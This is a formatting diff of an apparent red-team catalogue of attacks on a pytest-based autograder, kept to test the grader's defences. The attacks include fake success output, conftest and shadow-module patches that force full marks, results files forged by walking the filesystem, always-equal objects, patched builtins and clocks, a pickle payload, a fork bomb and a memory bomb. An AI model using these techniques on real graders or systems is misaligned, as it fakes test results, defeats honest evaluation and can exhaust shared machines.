@@ -105,50 +105,82 @@ class Attack:
 # -- honest bases -----------------------------------------------------------------
 
 RELU_GRAD_ONE_AT_ZERO = Base(
-    "base-relu-grad-one-at-zero", "solutions", "activations",
-    (("return (np.asarray(z, dtype=float) > 0).astype(float)",
-      "return (np.asarray(z, dtype=float) >= 0).astype(float)"),),
-    ("activations",))
+    "base-relu-grad-one-at-zero",
+    "solutions",
+    "activations",
+    (
+        (
+            "return (np.asarray(z, dtype=float) > 0).astype(float)",
+            "return (np.asarray(z, dtype=float) >= 0).astype(float)",
+        ),
+    ),
+    ("activations",),
+)
 SIGMOID_NAIVE = Base(
-    "base-sigmoid-naive", "solutions", "activations",
-    (("    result = np.empty_like(z)\n    positive = z >= 0\n",
-      "    return 1.0 / (1.0 + np.exp(-z))\n    positive = z >= 0\n"),),
-    ("activations",))
+    "base-sigmoid-naive",
+    "solutions",
+    "activations",
+    (
+        (
+            "    result = np.empty_like(z)\n    positive = z >= 0\n",
+            "    return 1.0 / (1.0 + np.exp(-z))\n    positive = z >= 0\n",
+        ),
+    ),
+    ("activations",),
+)
 ACTIVATION_STUBS = Base("base-activation-stubs", "exercises", None, (), ("activations",))
 NEURON_WITHOUT_BIAS = Base(
-    "base-neuron-without-bias", "solutions", "forward",
+    "base-neuron-without-bias",
+    "solutions",
+    "forward",
     (("+ b\n    return float(activation(pre_activation))", "\n    return float(activation(pre_activation))"),),
-    ("forward",))
+    ("forward",),
+)
 SHUFFLE_IGNORES_SEED = Base(
-    "base-shuffle-ignores-seed", "solutions", "gradient_descent",
+    "base-shuffle-ignores-seed",
+    "solutions",
+    "gradient_descent",
     (("np.random.default_rng(seed).permutation(num_examples)", "np.random.default_rng().permutation(num_examples)"),),
-    ("gradient_descent",))
+    ("gradient_descent",),
+)
 # The "vectorized" loss is the loop: it fails the no-loops and the speed checks.
 VECTORIZED_CALLS_THE_LOOP = Base(
-    "base-vectorized-calls-the-loop", "solutions", "softmax_loss", (), ("softmax_loss",), append='''
+    "base-vectorized-calls-the-loop",
+    "solutions",
+    "softmax_loss",
+    (),
+    ("softmax_loss",),
+    append="""
 
 def softmax_loss_vectorized(W, X, y, reg):
     return softmax_loss_naive(W, X, y, reg)
-''')
-BASES = (RELU_GRAD_ONE_AT_ZERO, SIGMOID_NAIVE, ACTIVATION_STUBS, NEURON_WITHOUT_BIAS, SHUFFLE_IGNORES_SEED,
-         VECTORIZED_CALLS_THE_LOOP)
+""",
+)
+BASES = (
+    RELU_GRAD_ONE_AT_ZERO,
+    SIGMOID_NAIVE,
+    ACTIVATION_STUBS,
+    NEURON_WITHOUT_BIAS,
+    SHUFFLE_IGNORES_SEED,
+    VECTORIZED_CALLS_THE_LOOP,
+)
 
 # -- code the attacks share -------------------------------------------------------
 
 KEEP_BUGGY_RELU_GRAD = "\n_buggy_relu_grad = relu_grad\n"
 
-FAKE_SUCCESS_BANNER = '''
+FAKE_SUCCESS_BANNER = """
 print("============================= test session starts ==============================")
 print("grader/suite/test_activations.py ..............                        [100%]")
 print("============================== 14 passed in 0.42s ==============================")
 print('{"score": 100.0, "max_score": 100.0}')
-'''
+"""
 
 # Writes forged result files wherever it can reach: its own folders and their
 # parents, /tmp, Gradescope's results folder, the watched decoys, its original
 # submission folder, and every results file under the grader's temporary
 # folders or the red team's folder that a walk of / finds.
-FORGE = '''
+FORGE = """
 import json as _json
 import os as _os
 import time as _time
@@ -197,18 +229,20 @@ def _forge_everywhere(walk_seconds=2.0):
             for name in files:
                 if name in _FORGED_TEXT:
                     _forge(_os.path.join(top, name))
-'''
+"""
 
 
 def witness(label: str) -> str:
     """Code that leaves a file in the watched folder if it ever runs outside the sandbox."""
-    return (f"import os as _w_os\ntry:\n    open(_w_os.path.join('__WATCH__', '{FORGED}-{label}'), 'w').close()\n"
-            "except OSError:\n    pass\n")
+    return (
+        f"import os as _w_os\ntry:\n    open(_w_os.path.join('__WATCH__', '{FORGED}-{label}'), 'w').close()\n"
+        "except OSError:\n    pass\n"
+    )
 
 
 # Module code of a conftest.py that, once loaded by the trusted pytest process, marks
 # every test passed in the results file the runner reads.
-CONFTEST_GIVING_FULL_MARKS = '''
+CONFTEST_GIVING_FULL_MARKS = """
 import grader.results.model
 import grader.engine.scoring
 
@@ -222,23 +256,38 @@ def _save_full_marks(result, path):
 
 
 grader.results.model.save = grader.engine.scoring.save = _save_full_marks
-'''
+"""
 # -- the catalogue ------------------------------------------------------------------
 
 ATTACKS = (
     Attack(
-        "fake-success-os-exit-at-import", "early exit with a fake success", ACTIVATION_STUBS, "activations",
-        append=FAKE_SUCCESS_BANNER + "import os\nos._exit(0)\n"),
+        "fake-success-os-exit-at-import",
+        "early exit with a fake success",
+        ACTIVATION_STUBS,
+        "activations",
+        append=FAKE_SUCCESS_BANNER + "import os\nos._exit(0)\n",
+    ),
     Attack(
-        "fake-success-sys-exit-in-call", "early exit with a fake success", RELU_GRAD_ONE_AT_ZERO, "activations",
-        append=KEEP_BUGGY_RELU_GRAD + '''
+        "fake-success-sys-exit-in-call",
+        "early exit with a fake success",
+        RELU_GRAD_ONE_AT_ZERO,
+        "activations",
+        append=KEEP_BUGGY_RELU_GRAD
+        + """
 def relu_grad(z):
     import sys
-''' + "".join(f"    {line}\n" for line in FAKE_SUCCESS_BANNER.strip().splitlines()) + '''    sys.exit(0)
-'''),
+"""
+        + "".join(f"    {line}\n" for line in FAKE_SUCCESS_BANNER.strip().splitlines())
+        + """    sys.exit(0)
+""",
+    ),
     Attack(
-        "pytest-reports-patched-from-student-code", "pytest patched from student code", RELU_GRAD_ONE_AT_ZERO,
-        "activations", append=KEEP_BUGGY_RELU_GRAD + '''
+        "pytest-reports-patched-from-student-code",
+        "pytest patched from student code",
+        RELU_GRAD_ONE_AT_ZERO,
+        "activations",
+        append=KEEP_BUGGY_RELU_GRAD
+        + """
 import gc
 try:
     import pytest
@@ -276,31 +325,50 @@ except Exception:
 def relu_grad(z):
     import pytest
     pytest.exit("REDTEAM: all checks passed", returncode=0)
-'''),
+""",
+    ),
     Attack(
-        "conftest-shipped-beside-the-modules", "files shipped beside the modules", ACTIVATION_STUBS, "activations",
-        writes_files=True, extra_files={"conftest.py": witness("conftest") + CONFTEST_GIVING_FULL_MARKS}),
+        "conftest-shipped-beside-the-modules",
+        "files shipped beside the modules",
+        ACTIVATION_STUBS,
+        "activations",
+        writes_files=True,
+        extra_files={"conftest.py": witness("conftest") + CONFTEST_GIVING_FULL_MARKS},
+    ),
     Attack(
-        "conftest-shipped-in-a-tests-folder", "files shipped beside the modules", ACTIVATION_STUBS, "activations",
-        writes_files=True, extra_files={"tests/conftest.py": witness("tests-conftest") + CONFTEST_GIVING_FULL_MARKS}),
+        "conftest-shipped-in-a-tests-folder",
+        "files shipped beside the modules",
+        ACTIVATION_STUBS,
+        "activations",
+        writes_files=True,
+        extra_files={"tests/conftest.py": witness("tests-conftest") + CONFTEST_GIVING_FULL_MARKS},
+    ),
     Attack(
-        "pytest-settings-shipped", "files shipped beside the modules", ACTIVATION_STUBS, "activations",
+        "pytest-settings-shipped",
+        "files shipped beside the modules",
+        ACTIVATION_STUBS,
+        "activations",
         writes_files=True,
         extra_files={
             "pytest.ini": "[pytest]\naddopts = -p conftest -p no:dlgrade-scoring\n",
             "tox.ini": "[pytest]\naddopts = -p conftest\n",
             "setup.cfg": "[tool:pytest]\naddopts = -p conftest\n",
-            "pyproject.toml": "[tool.pytest.ini_options]\naddopts = \"-p conftest\"\n",
+            "pyproject.toml": '[tool.pytest.ini_options]\naddopts = "-p conftest"\n',
             "exercises/conftest.py": witness("exercises-conftest") + CONFTEST_GIVING_FULL_MARKS,
             "grader/conftest.py": witness("grader-conftest") + CONFTEST_GIVING_FULL_MARKS,
-        }),
+        },
+    ),
     Attack(
-        "sitecustomize-and-shadow-modules-shipped", "files shipped beside the modules", RELU_GRAD_ONE_AT_ZERO,
-        "activations", writes_files=True,
+        "sitecustomize-and-shadow-modules-shipped",
+        "files shipped beside the modules",
+        RELU_GRAD_ONE_AT_ZERO,
+        "activations",
+        writes_files=True,
         extra_files={
             "sitecustomize.py": witness("sitecustomize") + "import numpy\nnumpy.allclose = lambda *a, **k: True\n",
             "usercustomize.py": witness("usercustomize"),
-            "numpy.py": witness("numpy") + '''
+            "numpy.py": witness("numpy")
+            + """
 import importlib
 import os
 import sys
@@ -312,7 +380,7 @@ _real = importlib.import_module("numpy")
 _real.allclose = lambda *args, **kwargs: True
 _real.isclose = lambda a, b, *args, **kwargs: _real.ones(_real.broadcast(a, b).shape, bool)
 sys.modules["numpy"] = _real
-''',
+""",
             "scipy.py": witness("scipy"),
             "pytest.py": witness("pytest"),
             "__init__.py": witness("package-init") + "import os\nos._exit(0)\n",
@@ -321,10 +389,15 @@ sys.modules["numpy"] = _real
             "grader/engine/scoring.py": witness("grader-scoring"),
             "grader/engine/feedback.py": witness("grader-feedback") + "def check_array(*args, **kwargs):\n    pass\n",
             "grader/suite/test_activations.py": witness("grader-suite"),
-        }),
+        },
+    ),
     Attack(
-        "always-equal-object", "always-equal object", RELU_GRAD_ONE_AT_ZERO, "activations",
-        append=KEEP_BUGGY_RELU_GRAD + '''
+        "always-equal-object",
+        "always-equal object",
+        RELU_GRAD_ONE_AT_ZERO,
+        "activations",
+        append=KEEP_BUGGY_RELU_GRAD
+        + '''
 
 class _AlwaysEqual:
     """Equal to everything, close to everything, finite, and shaped like whatever is asked."""
@@ -378,10 +451,15 @@ class _AlwaysEqual:
 
 def relu_grad(z):
     return _AlwaysEqual(np.shape(z))
-'''),
+''',
+    ),
     Attack(
-        "ndarray-subclass-that-compares-equal", "ndarray or float subclass", RELU_GRAD_ONE_AT_ZERO, "activations",
-        append=KEEP_BUGGY_RELU_GRAD + '''
+        "ndarray-subclass-that-compares-equal",
+        "ndarray or float subclass",
+        RELU_GRAD_ONE_AT_ZERO,
+        "activations",
+        append=KEEP_BUGGY_RELU_GRAD
+        + '''
 
 class _Agreeable(np.ndarray):
     """An array whose comparisons, differences and closeness checks all say 'equal'."""
@@ -403,9 +481,13 @@ class _Agreeable(np.ndarray):
 
 def relu_grad(z):
     return np.asarray(_buggy_relu_grad(z)).view(_Agreeable)
-'''),
+''',
+    ),
     Attack(
-        "float-subclass-that-compares-equal", "ndarray or float subclass", NEURON_WITHOUT_BIAS, "forward",
+        "float-subclass-that-compares-equal",
+        "ndarray or float subclass",
+        NEURON_WITHOUT_BIAS,
+        "forward",
         append='''
 
 _buggy_neuron = neuron
@@ -440,10 +522,14 @@ class _AgreeableFloat(float):
 
 def neuron(x, w, b, activation=sigmoid):
     return _AgreeableFloat(_buggy_neuron(x, w, b, activation))
-'''),
+''',
+    ),
     Attack(
-        "numpy-comparisons-patched-at-import", "numpy or builtins patched", RELU_GRAD_ONE_AT_ZERO, "activations",
-        append='''
+        "numpy-comparisons-patched-at-import",
+        "numpy or builtins patched",
+        RELU_GRAD_ONE_AT_ZERO,
+        "activations",
+        append="""
 
 import numpy
 import numpy.testing
@@ -466,9 +552,13 @@ try:
 except Exception:
     pass
 np.seterr(all="ignore")
-'''),
+""",
+    ),
     Attack(
-        "builtins-patched-at-import", "numpy or builtins patched", RELU_GRAD_ONE_AT_ZERO, "activations",
+        "builtins-patched-at-import",
+        "numpy or builtins patched",
+        RELU_GRAD_ONE_AT_ZERO,
+        "activations",
         append='''
 
 import builtins
@@ -488,10 +578,15 @@ builtins.any = lambda iterable: False
 builtins.isinstance = _agreeable_isinstance
 math.isclose = lambda *args, **kwargs: True
 math.isfinite = lambda value: True
-'''),
+''',
+    ),
     Attack(
-        "expected-values-read-from-the-stack", "expected values read from the stack", RELU_GRAD_ONE_AT_ZERO,
-        "activations", append=KEEP_BUGGY_RELU_GRAD + '''
+        "expected-values-read-from-the-stack",
+        "expected values read from the stack",
+        RELU_GRAD_ONE_AT_ZERO,
+        "activations",
+        append=KEEP_BUGGY_RELU_GRAD
+        + """
 
 def _arrays_in(value, depth=0):
     if isinstance(value, np.ndarray):
@@ -518,10 +613,16 @@ def relu_grad(z):
                     return candidate.astype(float)
         frame = frame.f_back
     return mine
-'''),
+""",
+    ),
     Attack(
-        "reference-solution-imported", "reference solution imported", RELU_GRAD_ONE_AT_ZERO, "activations",
-        needs_namespaces=True, append=KEEP_BUGGY_RELU_GRAD + '''
+        "reference-solution-imported",
+        "reference solution imported",
+        RELU_GRAD_ONE_AT_ZERO,
+        "activations",
+        needs_namespaces=True,
+        append=KEEP_BUGGY_RELU_GRAD
+        + """
 
 def _find_reference():
     import importlib
@@ -574,13 +675,25 @@ _reference_relu_grad = _find_reference()
 
 def relu_grad(z):
     return (_reference_relu_grad or _buggy_relu_grad)(z)
-'''),
+""",
+    ),
     Attack(
-        "module-file-linked-to-the-reference", "reference solution imported", RELU_GRAD_ONE_AT_ZERO, "activations",
-        links={"activations.py": "__REFERENCE__/activations.py"}),
+        "module-file-linked-to-the-reference",
+        "reference solution imported",
+        RELU_GRAD_ONE_AT_ZERO,
+        "activations",
+        links={"activations.py": "__REFERENCE__/activations.py"},
+    ),
     Attack(
-        "results-rewritten-at-exit", "result files rewritten", RELU_GRAD_ONE_AT_ZERO, "activations",
-        writes_files=True, needs_namespaces=True, append=KEEP_BUGGY_RELU_GRAD + FORGE + '''
+        "results-rewritten-at-exit",
+        "result files rewritten",
+        RELU_GRAD_ONE_AT_ZERO,
+        "activations",
+        writes_files=True,
+        needs_namespaces=True,
+        append=KEEP_BUGGY_RELU_GRAD
+        + FORGE
+        + """
 import atexit
 
 atexit.register(_forge_everywhere)
@@ -590,10 +703,17 @@ _forge_everywhere()
 def relu_grad(z):
     _forge_everywhere(walk_seconds=0.5)
     return _buggy_relu_grad(z)
-'''),
+""",
+    ),
     Attack(
-        "results-rewritten-by-a-daemon-that-outlives-the-run", "result files rewritten", RELU_GRAD_ONE_AT_ZERO,
-        "activations", writes_files=True, needs_namespaces=True, append=FORGE + '''
+        "results-rewritten-by-a-daemon-that-outlives-the-run",
+        "result files rewritten",
+        RELU_GRAD_ONE_AT_ZERO,
+        "activations",
+        writes_files=True,
+        needs_namespaces=True,
+        append=FORGE
+        + """
 
 
 def _start_daemon():
@@ -618,10 +738,16 @@ def _start_daemon():
 
 
 _start_daemon()
-'''),
+""",
+    ),
     Attack(
-        "pickle-payload-returned", "pickle payload", RELU_GRAD_ONE_AT_ZERO, "activations", writes_files=True,
-        append=KEEP_BUGGY_RELU_GRAD + f'''
+        "pickle-payload-returned",
+        "pickle payload",
+        RELU_GRAD_ONE_AT_ZERO,
+        "activations",
+        writes_files=True,
+        append=KEEP_BUGGY_RELU_GRAD
+        + f"""
 
 class _Payload:
     def __reduce__(self):
@@ -633,10 +759,14 @@ def relu_grad(z):
     payload = np.empty(np.shape(z), dtype=object)
     payload.fill(_Payload())
     return payload
-'''),
+""",
+    ),
     Attack(
-        "signals-ignored-then-endless-loop", "signals ignored", SHUFFLE_IGNORES_SEED, "gradient_descent",
-        append='''
+        "signals-ignored-then-endless-loop",
+        "signals ignored",
+        SHUFFLE_IGNORES_SEED,
+        "gradient_descent",
+        append="""
 
 def train_two_layer_net(*args, **kwargs):
     import signal
@@ -649,27 +779,40 @@ def train_two_layer_net(*args, **kwargs):
     signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGTERM, signal.SIGALRM, signal.SIGINT, signal.SIGHUP})
     while True:
         pass
-'''),
+""",
+    ),
     Attack(
-        "endless-loop", "infinite loop", SHUFFLE_IGNORES_SEED, "gradient_descent",
-        append='''
+        "endless-loop",
+        "infinite loop",
+        SHUFFLE_IGNORES_SEED,
+        "gradient_descent",
+        append="""
 
 def train_two_layer_net(*args, **kwargs):
     while True:
         pass
-'''),
+""",
+    ),
     Attack(
-        "memory-bomb", "memory bomb", RELU_GRAD_ONE_AT_ZERO, "activations",
-        append='''
+        "memory-bomb",
+        "memory bomb",
+        RELU_GRAD_ONE_AT_ZERO,
+        "activations",
+        append="""
 
 def relu_grad(z):
     hoard = []
     while True:
         hoard.append(np.empty(1 << 25))  # 256 MB each, until the address-space limit says no
-'''),
+""",
+    ),
     Attack(
-        "fork-bomb", "process bomb", RELU_GRAD_ONE_AT_ZERO, "activations", solo=True,
-        append='''
+        "fork-bomb",
+        "process bomb",
+        RELU_GRAD_ONE_AT_ZERO,
+        "activations",
+        solo=True,
+        append="""
 
 def relu_grad(z):
     import os
@@ -679,10 +822,15 @@ def relu_grad(z):
         if os.fork() == 0:
             while True:
                 time.sleep(60)
-'''),
+""",
+    ),
     Attack(
-        "inputs-mutated-in-place", "inputs mutated in place", RELU_GRAD_ONE_AT_ZERO, "activations",
-        append=KEEP_BUGGY_RELU_GRAD + '''
+        "inputs-mutated-in-place",
+        "inputs mutated in place",
+        RELU_GRAD_ONE_AT_ZERO,
+        "activations",
+        append=KEEP_BUGGY_RELU_GRAD
+        + """
 
 def relu_grad(z):
     answer = _buggy_relu_grad(z)  # 1 at z == 0
@@ -691,10 +839,15 @@ def relu_grad(z):
         z.setflags(write=True)
         z[z == 0] = 1.0
     return answer
-'''),
+""",
+    ),
     Attack(
-        "pytest-skip-from-student-code", "pytest.skip from student code", RELU_GRAD_ONE_AT_ZERO, "activations",
-        append=KEEP_BUGGY_RELU_GRAD + '''
+        "pytest-skip-from-student-code",
+        "pytest.skip from student code",
+        RELU_GRAD_ONE_AT_ZERO,
+        "activations",
+        append=KEEP_BUGGY_RELU_GRAD
+        + """
 
 try:
     import pytest
@@ -708,10 +861,14 @@ def relu_grad(z):
         pytest.skip("REDTEAM: relu_grad is not part of this assignment")
     import unittest
     raise unittest.SkipTest("REDTEAM: relu_grad is not part of this assignment")
-'''),
+""",
+    ),
     Attack(
-        "clock-frozen-for-the-timing-check", "clock frozen for a timing check", VECTORIZED_CALLS_THE_LOOP,
-        "softmax_loss", append='''
+        "clock-frozen-for-the-timing-check",
+        "clock frozen for a timing check",
+        VECTORIZED_CALLS_THE_LOOP,
+        "softmax_loss",
+        append="""
 
 import os as _os
 import resource as _resource
@@ -722,24 +879,36 @@ for _name in ("perf_counter", "process_time", "monotonic", "time", "thread_time"
     setattr(_time, _name + "_ns", lambda: 0)
 _resource.getrusage = lambda who: _resource.struct_rusage((0.0,) * 16)
 _os.times = lambda: _os.times_result((0.0,) * 5)
-'''),
+""",
+    ),
     Attack(
-        "nan-results", "NaN results", RELU_GRAD_ONE_AT_ZERO, "activations",
-        append='''
+        "nan-results",
+        "NaN results",
+        RELU_GRAD_ONE_AT_ZERO,
+        "activations",
+        append="""
 
 def relu_grad(z):
     return np.full(np.shape(z), np.nan)
-'''),
+""",
+    ),
     Attack(
-        "exception-echoing-its-inputs", "exception echoing its inputs", RELU_GRAD_ONE_AT_ZERO, "activations",
+        "exception-echoing-its-inputs",
+        "exception echoing its inputs",
+        RELU_GRAD_ONE_AT_ZERO,
+        "activations",
         append=f'''
 
 def relu_grad(z):
     raise ValueError("{ECHO} " + repr(np.asarray(z).tolist()))
-'''),
+''',
+    ),
     Attack(
-        "lookup-table-of-the-public-sigmoid-inputs", "lookup table of the public inputs", RELU_GRAD_ONE_AT_ZERO,
-        "activations", append='''
+        "lookup-table-of-the-public-sigmoid-inputs",
+        "lookup table of the public inputs",
+        RELU_GRAD_ONE_AT_ZERO,
+        "activations",
+        append='''
 
 _true_sigmoid = sigmoid
 
@@ -760,10 +929,15 @@ def sigmoid(z):
     """Right on every published input, and nothing else: a table, not a function."""
     answer = _TABLE.get(np.asarray(z, dtype=float).tobytes())
     return answer.reshape(np.shape(z)) if answer is not None else np.zeros(np.shape(z))
-'''),
+''',
+    ),
     Attack(
-        "lookup-table-of-the-public-inputs-at-zero", "lookup table of the public inputs", RELU_GRAD_ONE_AT_ZERO,
-        "activations", append=KEEP_BUGGY_RELU_GRAD + '''
+        "lookup-table-of-the-public-inputs-at-zero",
+        "lookup table of the public inputs",
+        RELU_GRAD_ONE_AT_ZERO,
+        "activations",
+        append=KEEP_BUGGY_RELU_GRAD
+        + """
 
 # The public inputs that hold an exact 0 (the only place relu'(0) = 0 and 1 differ), with their answers.
 _TABLE = {(-2.0, 0.0, 3.0, 1.0, -1.0, 4.0): [0.0, 0.0, 1.0, 1.0, 0.0, 1.0],
@@ -775,13 +949,21 @@ def relu_grad(z):
     if key in _TABLE:
         return np.array(_TABLE[key]).reshape(np.shape(z))
     return _buggy_relu_grad(z)
-'''),
+""",
+    ),
     Attack(
-        "numpy-warnings-silenced-at-import", "numpy or builtins patched", SIGMOID_NAIVE, "activations",
-        append='\nnp.seterr(all="ignore")\n'),
+        "numpy-warnings-silenced-at-import",
+        "numpy or builtins patched",
+        SIGMOID_NAIVE,
+        "activations",
+        append='\nnp.seterr(all="ignore")\n',
+    ),
     Attack(
-        "timing-check-passed-by-memoising", "timing check cheated", VECTORIZED_CALLS_THE_LOOP,
-        "softmax_loss", append='''
+        "timing-check-passed-by-memoising",
+        "timing check cheated",
+        VECTORIZED_CALLS_THE_LOOP,
+        "softmax_loss",
+        append='''
 
 _memo = {}
 
@@ -793,10 +975,14 @@ def softmax_loss_vectorized(W, X, y, reg):
         _memo[key] = softmax_loss_naive(W, X, y, reg)
     loss, dW = _memo[key]
     return loss, dW.copy()
-'''),
+''',
+    ),
     Attack(
-        "timing-check-passed-by-slowing-the-graders-loop", "timing check cheated",
-        VECTORIZED_CALLS_THE_LOOP, "softmax_loss", append='''
+        "timing-check-passed-by-slowing-the-graders-loop",
+        "timing check cheated",
+        VECTORIZED_CALLS_THE_LOOP,
+        "softmax_loss",
+        append="""
 
 # Whatever yardstick loop the grader runs in this process, make it ten times slower.
 import grader.worker.probes.softmax_loss as _probes
@@ -813,10 +999,14 @@ def _ten_times_slower(function):
 for _name in dir(_probes):
     if "loop" in _name and callable(getattr(_probes, _name)):
         setattr(_probes, _name, _ten_times_slower(getattr(_probes, _name)))
-'''),
+""",
+    ),
     Attack(
-        "timing-check-passed-by-working-in-an-unreaped-child", "timing check cheated",
-        VECTORIZED_CALLS_THE_LOOP, "softmax_loss", append='''
+        "timing-check-passed-by-working-in-an-unreaped-child",
+        "timing check cheated",
+        VECTORIZED_CALLS_THE_LOOP,
+        "softmax_loss",
+        append="""
 
 import mmap as _mmap
 import os as _os
@@ -866,10 +1056,15 @@ def softmax_loss_vectorized(W, X, y, reg):
     _os.write(request_write, b"1")
     _os.read(reply_read, 1)
     return float(loss[0]), dW.reshape(D, C).copy()
-'''),
+""",
+    ),
     Attack(
-        "reply-pipe-stalled-mid-message", "time limit outlived by stalling the reply", SHUFFLE_IGNORES_SEED,
-        "gradient_descent", time_limit=60.0, append='''
+        "reply-pipe-stalled-mid-message",
+        "time limit outlived by stalling the reply",
+        SHUFFLE_IGNORES_SEED,
+        "gradient_descent",
+        time_limit=60.0,
+        append="""
 
 def train_two_layer_net(*args, **kwargs):
     import json
@@ -881,12 +1076,13 @@ def train_two_layer_net(*args, **kwargs):
     os.write(reply_fd, (1 << 20).to_bytes(4, "big") + b'{"id": "')  # a header, then a trickle
     while True:
         time.sleep(3600)
-'''),
+""",
+    ),
 )
 
 
-
 # -- building submissions -------------------------------------------------------------
+
 
 @dataclasses.dataclass(frozen=True)
 class Places:
@@ -897,8 +1093,12 @@ class Places:
     reference: Path = SOLUTIONS
 
     def fill(self, text: str, submission: Path) -> str:
-        for placeholder, value in (("__WATCH__", self.watch), ("__ROOT__", self.root),
-                                   ("__REFERENCE__", self.reference), ("__SUBMISSION__", submission)):
+        for placeholder, value in (
+            ("__WATCH__", self.watch),
+            ("__ROOT__", self.root),
+            ("__REFERENCE__", self.reference),
+            ("__SUBMISSION__", submission),
+        ):
             text = text.replace(placeholder, str(value))
         return text
 
@@ -938,8 +1138,11 @@ def build_base(base: Base, folder: Path, places: Places) -> Path:
 def build_attack(attack: Attack, folder: Path, places: Places) -> Path:
     """The attacked submission: its base, then the attack's edits, appended code, files and links."""
     build_base(attack.base, folder, places)
-    _edit(folder / f"{attack.module}.py", [(old, places.fill(new, folder)) for old, new in attack.edits],
-          places.fill(attack.append, folder))
+    _edit(
+        folder / f"{attack.module}.py",
+        [(old, places.fill(new, folder)) for old, new in attack.edits],
+        places.fill(attack.append, folder),
+    )
     for name, text in attack.extra_files.items():
         path = folder / name
         path.parent.mkdir(parents=True, exist_ok=True)
